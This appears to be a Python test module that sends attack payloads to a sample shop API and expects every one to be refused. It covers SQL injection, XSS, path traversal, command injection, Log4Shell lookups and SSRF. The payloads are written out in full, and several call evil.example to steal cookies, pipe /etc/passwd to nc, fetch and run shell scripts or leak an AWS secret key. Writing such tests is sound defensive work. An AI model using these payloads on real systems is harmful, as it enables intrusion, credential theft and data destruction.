"""Attacks in values: what must never reach the shop's code."""

from collections.abc import Iterator
from urllib.parse import quote

from stockade.sample.traffic.call import Call
from stockade.sample.traffic.visitor import Visitor
from stockade.sample.traffic.wallet import Wallet

REFUSED = (400, 403)
"""Statuses of a refused value: by the inspection or by the contract."""

_SEARCHED = (
    ("always true", "' OR '1'='1"),
    ("union", "x' UNION SELECT 1,email,password_hash,role,5,6,7 FROM users -- "),
    ("stacked", "'; DROP TABLE users; --"),
    ("comments between", "x'/**/OR/**/1=1/**/--"),
    ("by time", "x' AND (SELECT 1 FROM (SELECT SLEEP(5))a) AND 'a'='a"),
)


def sql_injection(visitor: Visitor, wallet: Wallet) -> Iterator[Call]:
    """In the search, in a note, encoded twice."""
    for name, words in _SEARCHED:
        yield visitor.call(name, "GET", f"/products?q={quote(words)}", REFUSED)
    twice = quote(quote("' OR '1'='1' -- ", safe=""), safe="")
    yield visitor.call("encoded twice", "GET", f"/products?q={twice}", REFUSED)
    note = {"items": [{"product_id": 1, "quantity": 1}], "note": "x'); DELETE FROM orders WHERE 1=1; --"}
    yield visitor.call("in a JSON note", "POST", "/orders", REFUSED, token=wallet.token("alice"), json=note)
    escaped = b'{"email": "a@b.example\\u0027 OR 1=1 -- ", "password": "x\\u0027 OR \\u00271\\u0027=\\u00271"}'
    headers = {"content-type": "application/json"}
    yield visitor.call("escaped in JSON", "POST", "/sessions", REFUSED, content=escaped, headers=headers)


def cross_site_scripting(visitor: Visitor, wallet: Wallet) -> Iterator[Call]:
    """In reviews, names and searches."""
    token = wallet.token("alice")
    script = {"rating": 1, "text": "<script>fetch('https://evil.example/?c='+document.cookie)</script>"}
    yield visitor.call("script in a review", "POST", "/products/1/reviews", REFUSED, token=token, json=script)
    handler = {"bio": "hi <img src=x onerror=alert(document.domain)>"}
    yield visitor.call("handler in a bio", "PATCH", "/users/me", REFUSED, token=token, json=handler)
    yield visitor.call("in a search", "GET", f"/products?q={quote('<svg/onload=alert(1)>')}", REFUSED)
    link = {"bio": '<a href="javascript:alert(1)">my page</a>'}
    yield visitor.call("javascript link", "PATCH", "/users/me", REFUSED, token=token, json=link)


def path_traversal(visitor: Visitor, wallet: Wallet) -> Iterator[Call]:
    """In values and in the path itself."""
    yield visitor.call("in a search", "GET", "/products?q=..%2F..%2F..%2F..%2Fetc%2Fpasswd", REFUSED)
    yield visitor.call("encoded twice", "GET", "/products?q=%252e%252e%252f%252e%252e%252fetc%252fpasswd", REFUSED)
    yield visitor.raw("above the root", "/%2e%2e/%2e%2e/etc/passwd", 400)
    yield visitor.raw("escaped slashes", "/products/..%2f..%2f..%2fetc%2fpasswd", 400)
    yield visitor.raw("overlong", "/products/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", 400)
    files = {"file": ("../../../../etc/cron.d/x", b"* * * * * root id", "image/png")}
    yield visitor.call("in a file name", "PUT", "/users/me/avatar", REFUSED, token=wallet.token("alice"), files=files)


def command_injection(visitor: Visitor, wallet: Wallet) -> Iterator[Call]:
    """Shell commands in notes and searches."""
    token = wallet.token("alice")
    for name, note in (
        ("piped", "; cat /etc/passwd | nc evil.example 4444"),
        ("substituted", "$(curl -s http://evil.example/x.sh | sh)"),
        ("in backticks", "`wget http://evil.example/x -O /tmp/x; chmod +x /tmp/x; /tmp/x`"),
    ):
        sent = {"items": [{"product_id": 1, "quantity": 1}], "note": note}
        yield visitor.call(name, "POST", "/orders", REFUSED, token=token, json=sent)
    yield visitor.call("in a search", "GET", f"/products?q={quote('x && id; uname -a')}", REFUSED)


def jndi(visitor: Visitor, wallet: Wallet) -> Iterator[Call]:
    """Look-ups for a logger (CVE-2021-44228), in header fields."""
    plain = {"user-agent": "${jndi:ldap://evil.example/a}"}
    yield visitor.call("user agent", "GET", "/products", REFUSED, headers=plain)
    hidden = {"x-request-note": "${${lower:j}${upper:n}di:${lower:l}dap://evil.example/${env:AWS_SECRET_ACCESS_KEY}}"}
    yield visitor.call("hidden", "GET", "/products", REFUSED, headers=hidden)


def request_forgery(visitor: Visitor, wallet: Wallet) -> Iterator[Call]:
    """Pictures from where no picture is."""
    token = wallet.token("alice")
    for name, url in (
        ("cloud metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
        ("own network", "http://127.0.0.1:9440/api/v1/decisions"),
        ("user part", "http://images.shop.example@169.254.169.254/"),
        ("file", "file:///etc/passwd"),
    ):
        yield visitor.call(name, "PUT", "/users/me/picture", REFUSED, token=token, json={"url": url})
